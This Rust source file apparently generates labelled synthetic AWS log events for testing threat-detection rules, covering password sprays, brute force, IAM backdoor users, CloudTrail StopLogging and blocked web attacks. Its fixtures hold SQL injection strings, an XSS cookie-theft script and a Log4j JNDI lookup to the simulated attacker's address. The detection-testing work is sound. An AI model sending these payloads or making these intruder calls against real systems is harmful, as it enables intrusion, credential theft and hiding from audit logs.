//! Labelled attack scenarios: the events each plants, and the label that
//! says when it happened, who was involved, and which rules should see it.

use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::background::{access_log, invocation, iso, user_identity_of, Ending, Request};
use crate::firewall::{self, Inspected, ManagedRule, Verdict};
use crate::identity::*;

/// A generated event of one family.
#[derive(Debug, Clone, PartialEq)]
pub enum Event {
    CloudTrail {
        ms: i64,
        record: String,
    },
    ApiGateway {
        ms: i64,
        line: String,
    },
    Lambda {
        function: &'static str,
        ms: i64,
        line: String,
    },
    Waf {
        ms: i64,
        line: String,
    },
}

impl Event {
    pub fn ms(&self) -> i64 {
        match self {
            Event::CloudTrail { ms, .. }
            | Event::ApiGateway { ms, .. }
            | Event::Lambda { ms, .. }
            | Event::Waf { ms, .. } => *ms,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum ScenarioKind {
    FailedAuthBurst,
    PasswordSpray,
    TrafficSpike,
    ErrorSpike5xx,
    IamPolicyChange,
    StopLogging,
    AccessKeyForOtherUser,
    PublicLambdaPermission,
    SqlInjectionProbes,
    LambdaTimeouts,
    /// Refused logins from one client, then one that works.
    BruteForceThatWorked,
    /// A user created, given an administrator policy and a key by one actor.
    BackdoorUser,
    /// A layer from another account attached to a function.
    LambdaLayerBackdoor,
    /// A method's authorization set to NONE.
    ApiAuthorizationRemoved,
    /// The API's own clients, all at once, six times their usual rate on one
    /// route (a sale, a link on a front page): one route spike, and no
    /// finding about any one client.
    FlashCrowd,
    /// SQL injection, XSS and Log4j probes the web ACL blocks.
    WebAttackBlocked,
    /// A POST /login flood the web ACL's rate-based rule blocks.
    LoginRateLimited,
    /// Requests to a stage of the protected API that no web ACL covers.
    UnprotectedStage,
}

impl ScenarioKind {
    pub const ALL: [ScenarioKind; 18] = [
        ScenarioKind::FailedAuthBurst,
        ScenarioKind::PasswordSpray,
        ScenarioKind::TrafficSpike,
        ScenarioKind::ErrorSpike5xx,
        ScenarioKind::IamPolicyChange,
        ScenarioKind::StopLogging,
        ScenarioKind::AccessKeyForOtherUser,
        ScenarioKind::PublicLambdaPermission,
        ScenarioKind::SqlInjectionProbes,
        ScenarioKind::LambdaTimeouts,
        ScenarioKind::BruteForceThatWorked,
        ScenarioKind::BackdoorUser,
        ScenarioKind::LambdaLayerBackdoor,
        ScenarioKind::ApiAuthorizationRemoved,
        ScenarioKind::FlashCrowd,
        ScenarioKind::WebAttackBlocked,
        ScenarioKind::LoginRateLimited,
        ScenarioKind::UnprotectedStage,
    ];

    /// The built-in rules that must report this scenario.
    pub fn expected_rules(self) -> &'static [&'static str] {
        match self {
            ScenarioKind::FailedAuthBurst => &["apigw_auth_failure_burst"],
            ScenarioKind::PasswordSpray => &["password_spray", "console_login_failures_by_ip"],
            ScenarioKind::TrafficSpike => &["apigw_route_traffic_spike"],
            ScenarioKind::ErrorSpike5xx => &["apigw_5xx_rate_spike"],
            ScenarioKind::IamPolicyChange => &["iam_policy_changed"],
            ScenarioKind::StopLogging => &["cloudtrail_logging_tampered"],
            ScenarioKind::AccessKeyForOtherUser => &["access_key_created_for_other_user"],
            ScenarioKind::PublicLambdaPermission => &["lambda_public_permission"],
            ScenarioKind::SqlInjectionProbes => &["apigw_web_attack_payload"],
            ScenarioKind::LambdaTimeouts => &["lambda_error_spike"],
            ScenarioKind::BruteForceThatWorked => &["seq_apigw_brute_force_success"],
            ScenarioKind::BackdoorUser => &["seq_iam_user_backdoor"],
            ScenarioKind::LambdaLayerBackdoor => &["lambda_layer_added"],
            ScenarioKind::ApiAuthorizationRemoved => &["apigw_authorization_removed"],
            ScenarioKind::FlashCrowd => &["apigw_route_traffic_spike"],
            ScenarioKind::WebAttackBlocked => &["waf_attack_rule_groups", "waf_blocked_burst"],
            ScenarioKind::LoginRateLimited => &["waf_rate_limit_triggered"],
            ScenarioKind::UnprotectedStage => &["waf_unprotected_api_traffic"],
        }
    }

    /// How long the scenario lasts (its events fall in `[start, start + span)`).
    fn span_ms(self) -> i64 {
        match self {
            ScenarioKind::FailedAuthBurst => 4 * 60_000,
            ScenarioKind::PasswordSpray => 6 * 60_000,
            ScenarioKind::TrafficSpike
            | ScenarioKind::FlashCrowd
            | ScenarioKind::ErrorSpike5xx
            | ScenarioKind::LambdaTimeouts => 5 * 60_000,
            ScenarioKind::SqlInjectionProbes => 2 * 60_000,
            _ => 3 * 60_000,
        }
    }
}

/// One planted scenario, as written to `labels.jsonl`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Label {
    pub id: String,
    pub kind: ScenarioKind,
    /// First and last event, Unix ms.
    pub start_ms: i64,
    pub end_ms: i64,
    pub start: String,
    pub end: String,
    /// Who and what was involved: source addresses, principals, routes, functions.
    pub entities: Vec<String>,
    pub expected_rules: Vec<String>,
}

/// Plants `kind` at `start` (aligned to five minutes, as the rules' windows
/// are): its events, and its label. `api_requests_per_minute` is the
/// background's API Gateway rate at `start`: a flood or an outage is sized
/// against it, as a real one stands out of the traffic it lands in.
pub fn plant(
    rng: &mut fastrand::Rng,
    n: usize,
    kind: ScenarioKind,
    start: i64,
    api_requests_per_minute: f64,
) -> (Vec<Event>, Label) {
    let plot = Plot {
        start,
        span: kind.span_ms(),
        attacker: attacker_ip(rng.u32(0..250)),
        api_requests_per_minute,
    };
    let Planted {
        mut events,
        entities,
    } = match kind {
        ScenarioKind::FailedAuthBurst => failed_auth_burst(rng, &plot),
        ScenarioKind::PasswordSpray => password_spray(rng, &plot),
        ScenarioKind::TrafficSpike => traffic_spike(rng, &plot),
        ScenarioKind::FlashCrowd => flash_crowd(rng, &plot),
        ScenarioKind::ErrorSpike5xx => error_spike_5xx(rng, &plot),
        ScenarioKind::IamPolicyChange
        | ScenarioKind::StopLogging
        | ScenarioKind::AccessKeyForOtherUser
        | ScenarioKind::PublicLambdaPermission
        | ScenarioKind::BackdoorUser
        | ScenarioKind::LambdaLayerBackdoor
        | ScenarioKind::ApiAuthorizationRemoved => intruder_calls(rng, &plot, kind),
        ScenarioKind::SqlInjectionProbes => sql_injection_probes(rng, &plot),
        ScenarioKind::BruteForceThatWorked => brute_force_that_worked(rng, &plot),
        ScenarioKind::LambdaTimeouts => lambda_timeouts(rng, &plot),
        ScenarioKind::WebAttackBlocked => web_attack_blocked(rng, &plot),
        ScenarioKind::LoginRateLimited => login_rate_limited(rng, &plot),
        ScenarioKind::UnprotectedStage => unprotected_stage(rng, &plot),
    };
    events.sort_by_key(Event::ms);
    let start_ms = events.first().map(Event::ms).unwrap_or(start);
    let end_ms = events.last().map(Event::ms).unwrap_or(start);
    let label = Label {
        id: format!(
            "s{n:04}-{}",
            serde_json::to_value(kind)
                .ok()
                .and_then(|v| v.as_str().map(str::to_string))
                .unwrap_or_default()
        ),
        kind,
        start_ms,
        end_ms,
        start: iso(start_ms),
        end: iso(end_ms),
        entities,
        expected_rules: kind
            .expected_rules()
            .iter()
            .map(|s| s.to_string())
            .collect(),
    };
    (events, label)
}

/// Where and when a scenario is planted.
struct Plot {
    start: i64,
    span: i64,
    /// The address the scenario's attacker comes from.
    attacker: String,
    /// The background's API Gateway rate at `start`.
    api_requests_per_minute: f64,
}

impl Plot {
    /// The time of the `i`th of `count` events spread over the span.
    fn at(&self, i: i64, count: i64) -> i64 {
        self.start + i * self.span / count.max(1)
    }
}

/// What a scenario plants: its events, and the entities its findings name.
struct Planted {
    events: Vec<Event>,
    entities: Vec<String>,
}

/// The IAM user an intruder acts as.
const INTRUDER: &str = "mallory";

/// The route with this method and resource.
fn route(method: &str, resource: &str) -> &'static Route {
    ROUTES
        .iter()
        .find(|r| r.method == method && r.resource == resource)
        .expect("a known route")
}

/// One API Gateway request of a scenario.
fn api_request(
    rng: &mut fastrand::Rng,
    route: &'static Route,
    ip: &str,
    status: u16,
    path: String,
    agent: &'static str,
    ms: i64,
) -> Event {
    Event::ApiGateway {
        ms,
        line: access_line(rng, route, ip, status, path, agent, ms),
    }
}

/// The access log of one API Gateway request of a scenario.
fn access_line(
    rng: &mut fastrand::Rng,
    route: &'static Route,
    ip: &str,
    status: u16,
    path: String,
    agent: &'static str,
    ms: i64,
) -> String {
    let request = Request {
        route,
        ip: ip.to_string(),
        status,
        path,
        agent,
        latency_ms: 30,
    };
    access_log(rng, ms, &request)
}

fn failed_auth_burst(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let login = route("POST", "/login");
    for i in 0..35 {
        events.push(api_request(
            rng,
            login,
            &plot.attacker,
            401,
            "/login".into(),
            "python-requests/2.32.3",
            plot.at(i, 35),
        ));
    }
    entities.push(plot.attacker.clone());
    Planted { events, entities }
}

fn password_spray(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let users = &CONSOLE_USERS[..12];
    for (i, user) in users.iter().enumerate() {
        let ms = plot.at(i as i64, users.len() as i64);
        let record = json!({
            "eventVersion": "1.09",
            "userIdentity": {"type": "IAMUser", "principalId": format!("AIDAYFAKE{}", user.to_uppercase()), "accountId": ACCOUNT, "userName": user},
            "eventTime": iso(ms), "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin",
            "awsRegion": "us-east-1", "sourceIPAddress": plot.attacker, "userAgent": USER_AGENTS[2],
            "errorMessage": "Failed authentication", "requestParameters": null,
            "responseElements": {"ConsoleLogin": "Failure"},
            "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"},
            "eventID": uuid(rng), "readOnly": false, "eventType": "AwsConsoleSignIn",
            "managementEvent": true, "recipientAccountId": ACCOUNT, "eventCategory": "Management"
        });
        events.push(Event::CloudTrail {
            ms,
            record: record.to_string(),
        });
    }
    entities.push(plot.attacker.clone());
    Planted { events, entities }
}

fn traffic_spike(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let search = route("GET", "/search");
    // Three times the route's usual rate in all: a flood, whatever the hour.
    let usual = expected_requests(plot.api_requests_per_minute, plot.span, |r| {
        std::ptr::eq(r, search)
    });
    let count = (2.0 * usual).max(400.0) as i64;
    for i in 0..count {
        let ip = attacker_ip(rng.u32(0..250));
        let path = format!("/search?q=item{}", rng.u32(0..1000));
        events.push(api_request(
            rng,
            search,
            &ip,
            200,
            path,
            "okhttp/4.12.0",
            plot.at(i, count),
        ));
    }
    entities.push("GET /search".into());
    Planted { events, entities }
}

fn flash_crowd(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let orders = route("GET", "/orders");
    let usual = expected_requests(plot.api_requests_per_minute, plot.span, |r| {
        std::ptr::eq(r, orders)
    });
    let count = (5.0 * usual).max(60.0) as i64;
    for i in 0..count {
        // The background's own clients, in the background's proportions.
        let mut crowd = crate::background::request(rng);
        crowd.route = orders;
        crowd.status = 200;
        crowd.path = "/orders".into();
        events.push(Event::ApiGateway {
            ms: plot.at(i, count),
            line: access_log(rng, plot.at(i, count), &crowd),
        });
    }
    entities.push("GET /orders".into());
    Planted { events, entities }
}

fn error_spike_5xx(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    // The payments backend fails: a quarter again as many requests as
    // the API usually serves answer 502, on every route of the API
    // in proportion to its traffic (no route floods).
    let api = route("POST", "/payments").api;
    let routes: Vec<&'static Route> = ROUTES.iter().filter(|r| r.api == api).collect();
    let usual = expected_requests(plot.api_requests_per_minute, plot.span, |r| r.api == api);
    let count = (usual / 4.0).max(45.0) as i64;
    for i in 0..count {
        let failing = routes[weighted(rng, &routes, |r| r.weight)];
        let ip = client_ip(rng.u32(0..900));
        let path = failing
            .resource
            .replace("{id}", &rng.u32(1000..99999).to_string());
        events.push(api_request(
            rng,
            failing,
            &ip,
            502,
            path,
            CLIENT_AGENTS[1],
            plot.at(i, count),
        ));
    }
    entities.push(api.into());
    Planted { events, entities }
}

fn intruder_calls(rng: &mut fastrand::Rng, plot: &Plot, kind: ScenarioKind) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let steps = intruder_steps(kind, plot.start);
    let count = steps.len() as i64;
    for (i, step) in steps.into_iter().enumerate() {
        // Inside the scenario's span, one step after another.
        let ms = plot.at(i as i64 + 1, count + 2);
        let record = json!({
            "eventVersion": "1.09", "userIdentity": user_identity_of(INTRUDER),
            "eventTime": iso(ms), "eventSource": step.source, "eventName": step.name, "awsRegion": "us-east-1",
            "sourceIPAddress": plot.attacker, "userAgent": USER_AGENTS[0],
            "requestParameters": step.params, "responseElements": step.response,
            "requestID": uuid(rng), "eventID": uuid(rng), "readOnly": false, "eventType": "AwsApiCall",
            "managementEvent": true, "recipientAccountId": ACCOUNT, "eventCategory": "Management"
        });
        events.push(Event::CloudTrail {
            ms,
            record: record.to_string(),
        });
    }
    entities.push(format!("arn:aws:iam::{ACCOUNT}:user/{INTRUDER}"));
    entities.push(plot.attacker.clone());
    Planted { events, entities }
}

/// One CloudTrail call of an intruder's.
struct IntruderCall {
    source: &'static str,
    name: &'static str,
    params: serde_json::Value,
    response: serde_json::Value,
}

fn call(
    source: &'static str,
    name: &'static str,
    params: serde_json::Value,
    response: serde_json::Value,
) -> IntruderCall {
    IntruderCall {
        source,
        name,
        params,
        response,
    }
}

/// The intruder's CloudTrail calls of a scenario, in order.
fn intruder_steps(kind: ScenarioKind, start: i64) -> Vec<IntruderCall> {
    match kind {
        ScenarioKind::IamPolicyChange => vec![call(
            "iam.amazonaws.com",
            "PutUserPolicy",
            json!({
                "userName": INTRUDER, "policyName": "maintenance",
                "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"iam:*\",\"Resource\":\"*\"}]}"
            }),
            json!(null),
        )],
        ScenarioKind::StopLogging => vec![call(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            json!({
                "name": format!("arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/management-events")
            }),
            json!(null),
        )],
        ScenarioKind::AccessKeyForOtherUser => vec![call(
            "iam.amazonaws.com",
            "CreateAccessKey",
            json!({"userName": "bob"}),
            json!({
                "accessKey": {"userName": "bob", "accessKeyId": "AKIAYFAKEBOBKEY00001", "status": "Active", "createDate": iso(start)}
            }),
        )],
        ScenarioKind::PublicLambdaPermission => vec![call(
            "lambda.amazonaws.com",
            "AddPermission20150331v2",
            json!({
                "functionName": "orders-api", "statementId": "open", "action": "lambda:InvokeFunction", "principal": "*"
            }),
            json!({"statement": "{\"Sid\":\"open\",\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"lambda:InvokeFunction\"}"}),
        )],
        ScenarioKind::BackdoorUser => vec![
            call(
                "iam.amazonaws.com",
                "CreateUser",
                json!({"userName": "svc-sync"}),
                json!(null),
            ),
            call(
                "iam.amazonaws.com",
                "AttachUserPolicy",
                json!({"userName": "svc-sync", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
                json!(null),
            ),
            call(
                "iam.amazonaws.com",
                "CreateAccessKey",
                json!({"userName": "svc-sync"}),
                json!({"accessKey": {"userName": "svc-sync", "accessKeyId": "AKIAYFAKESVCSYNC0001", "status": "Active", "createDate": iso(start)}}),
            ),
        ],
        ScenarioKind::LambdaLayerBackdoor => vec![call(
            "lambda.amazonaws.com",
            "UpdateFunctionConfiguration20150331v2",
            json!({"functionName": FUNCTIONS[0].name, "layers": ["arn:aws:lambda:us-east-1:999988887777:layer:telemetry:4"]}),
            json!(null),
        )],
        // ApiAuthorizationRemoved
        _ => vec![call(
            "apigateway.amazonaws.com",
            "UpdateMethod",
            json!({"restApiId": ROUTES[0].api, "resourceId": "r0login", "httpMethod": "POST",
                   "patchBatch": {"patchOperations": [{"op": "replace", "path": "/authorizationType", "value": "NONE"}]}}),
            json!(null),
        )],
    }
}

fn sql_injection_probes(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let search = route("GET", "/search");
    let probes = [
        "/search?q=1%27%20OR%20%271%27=%271",
        "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/search?q=%27;%20DROP%20TABLE%20orders;--",
        "/search?q=1%27%20AND%20SLEEP(5)--",
    ];
    for (i, p) in probes.iter().enumerate() {
        events.push(api_request(
            rng,
            search,
            &plot.attacker,
            400,
            p.to_string(),
            "python-requests/2.32.3",
            plot.at(i as i64, probes.len() as i64),
        ));
    }
    entities.push(plot.attacker.clone());
    Planted { events, entities }
}

fn brute_force_that_worked(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let login = route("POST", "/login");
    for i in 0..16 {
        // Fifteen refusals, then the guess that works.
        let status = if i < 15 { 401 } else { 200 };
        events.push(api_request(
            rng,
            login,
            &plot.attacker,
            status,
            "/login".into(),
            "python-requests/2.32.3",
            plot.at(i, 16),
        ));
    }
    entities.push(plot.attacker.clone());
    Planted { events, entities }
}

fn lambda_timeouts(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let mut events = Vec::new();
    let mut entities = Vec::new();
    let f = &FUNCTIONS[0];
    for i in 0..12 {
        events.extend(
            invocation(
                rng,
                f,
                plot.at(i, 12) - 3_000,
                Ending::TimedOut { after_s: 3.0 },
                false,
            )
            .into_iter()
            .map(|(ms, line)| Event::Lambda {
                function: f.name,
                ms,
                line,
            }),
        );
    }
    entities.push(f.name.into());

    Planted { events, entities }
}

/// A request of the attacker's that the web ACL blocked.
fn blocked_request(
    rng: &mut fastrand::Rng,
    plot: &Plot,
    ms: i64,
    target: &str,
    agent: &str,
    verdict: Verdict,
) -> Event {
    let request_id = uuid(rng);
    let method = if target == "/login" { "POST" } else { "GET" };
    let request = Inspected {
        ms,
        request_id: &request_id,
        ip: &plot.attacker,
        method,
        target,
        agent,
    };
    Event::Waf {
        ms,
        line: firewall::record(&request, verdict),
    }
}

fn web_attack_blocked(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    const SQLMAP: &str = "sqlmap/1.8.11#stable (https://sqlmap.org)";
    let jndi = format!("${{jndi:ldap://{}:1389/a}}", plot.attacker);
    let probes: [(ManagedRule, &str, &str); 3] = [
        (
            firewall::SQLI,
            "/search?q=1' UNION SELECT username,password FROM users--",
            SQLMAP,
        ),
        (
            firewall::XSS,
            "/search?q=<script>alert(document.cookie)</script>",
            SQLMAP,
        ),
        (firewall::LOG4J, "/search?q=shoes", &jndi),
    ];
    let count = 30;
    let events = (0..count)
        .map(|i| {
            let (rule, target, agent) = probes[i as usize % probes.len()];
            let ms = plot.at(i, count);
            blocked_request(rng, plot, ms, target, agent, Verdict::BlockedByGroup(rule))
        })
        .collect();
    Planted {
        events,
        entities: vec![plot.attacker.clone()],
    }
}

fn login_rate_limited(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    let count = 40;
    let events = (0..count)
        .map(|i| {
            let ms = plot.at(i, count);
            let verdict = Verdict::RateLimited {
                rule: "login-rate-limit",
            };
            blocked_request(rng, plot, ms, "/login", "python-requests/2.32.3", verdict)
        })
        .collect();
    Planted {
        events,
        entities: vec![plot.attacker.clone()],
    }
}

fn unprotected_stage(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
    // The protected API's `test` stage, which the web ACL is not associated
    // with: what it blocks on prod goes through here.
    let search = route("GET", "/search");
    let count = 15;
    let mut events = Vec::new();
    for i in 0..count {
        let ms = plot.at(i, count);
        let line = access_line(
            rng,
            search,
            &plot.attacker,
            200,
            format!("/search?q={i}' OR '1'='1"),
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
            ms,
        )
        .replace("\"stage\":\"prod\"", "\"stage\":\"test\"")
        .replace("\"path\":\"/prod/", "\"path\":\"/test/");
        events.push(Event::ApiGateway { ms, line });
    }
    Planted {
        events,
        // The injection reaches API Gateway: its own rules see the attacker too.
        entities: vec![
            format!("{}/test", firewall::PROTECTED_API),
            plot.attacker.clone(),
        ],
    }
}

/// How many background requests the routes `on` usually receive in `span_ms`
/// at an API rate of `api_requests_per_minute`.
fn expected_requests(
    api_requests_per_minute: f64,
    span_ms: i64,
    on: impl Fn(&Route) -> bool,
) -> f64 {
    let total: u32 = ROUTES.iter().map(|r| r.weight).sum();
    let chosen: u32 = ROUTES.iter().filter(|r| on(r)).map(|r| r.weight).sum();
    api_requests_per_minute * (span_ms as f64 / 60_000.0) * chosen as f64 / total as f64
}
